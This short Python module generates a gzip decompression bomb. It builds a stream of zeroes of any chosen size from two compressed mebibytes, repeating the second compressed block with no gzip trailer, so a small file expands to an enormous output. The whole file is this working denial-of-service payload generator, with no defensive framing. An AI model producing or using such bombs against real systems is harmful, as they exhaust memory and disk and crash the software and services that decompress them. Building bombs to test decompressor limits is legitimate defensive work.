"""A gzip bomb, made in a fraction of the time that compressing all of it would take."""

import zlib

_MEBIBYTE = bytes(2**20)
_GZIP = 31  # zlib's window bits for a member of gzip


def bomb(mebibytes: int) -> bytes:
    """Zeroes in one member: what packs the second mebibyte packs all others too. It has no end, which nobody reads."""
    packing = zlib.compressobj(wbits=_GZIP)
    first, second = (packing.compress(_MEBIBYTE) + packing.flush(zlib.Z_FULL_FLUSH) for _ in range(2))
    return first + second * (mebibytes - 1)
